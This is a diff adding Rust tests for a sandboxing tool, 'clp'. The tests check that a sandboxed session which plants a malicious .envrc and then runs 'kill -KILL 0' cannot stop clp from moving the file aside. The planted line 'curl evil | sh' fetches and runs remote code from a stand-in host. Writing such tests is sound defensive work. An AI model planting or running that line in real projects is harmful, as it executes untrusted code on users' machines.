@@ -155,3 +155,69 @@ fn a_fifo_in_a_nested_repo_does_not_hang_clp_b_as_user() {
 fn a_fifo_in_a_nested_repo_does_not_hang_clp_c_as_user() {
     unreadable_config(As::User, Level::C);
 }
+
+// ---- The session cannot end clp before clp checks what it left ----------------------
+
+/// The session plants `.envrc`, then kills its whole process group, where clp (its
+/// parent, same uid) used to be: clp must survive to hold the file aside. Control: at
+/// level A the same `kill -KILL 0` ends the process that started it.
+fn kill_the_parent(mode: As) {
+    let Some(b) = boxed(mode, Level::B) else {
+        return;
+    };
+    // Each run in a process group of its own: `kill 0` must not reach the test runner.
+    let own_group = |mut c: Command| {
+        std::os::unix::process::CommandExt::process_group(&mut c, 0);
+        c
+    };
+    let out = output_within(
+        own_group(b.clp(&[
+            "run",
+            "box",
+            "--",
+            "sh",
+            "-c",
+            "echo 'curl evil | sh' > .envrc; kill -KILL 0; echo survived",
+        ])),
+        Duration::from_secs(60),
+    )
+    .unwrap();
+    let (stdout, stderr) = text(&out);
+    assert!(
+        !b.project.join(".envrc").exists(),
+        "{mode:?}: the planted .envrc stayed (exit {:?}):\n{stdout}{stderr}",
+        out.status.code()
+    );
+    assert!(stderr.contains("moved it to"), "{mode:?}: {stderr}");
+    // Control: without a boundary, `kill 0` reaches the caller's process group.
+    let out = output_within(
+        own_group(b.clp(&[
+            "--set",
+            "isolation.level=env",
+            "run",
+            "box",
+            "--",
+            "sh",
+            "-c",
+            "kill -KILL 0; echo survived",
+        ])),
+        Duration::from_secs(60),
+    )
+    .unwrap();
+    assert_eq!(
+        std::os::unix::process::ExitStatusExt::signal(&out.status),
+        Some(9),
+        "control: {:?}",
+        text(&out)
+    );
+}
+
+#[test]
+fn the_session_cannot_kill_clp_before_the_check_as_root() {
+    kill_the_parent(As::Root);
+}
+
+#[test]
+fn the_session_cannot_kill_clp_before_the_check_as_user() {
+    kill_the_parent(As::User);
+}
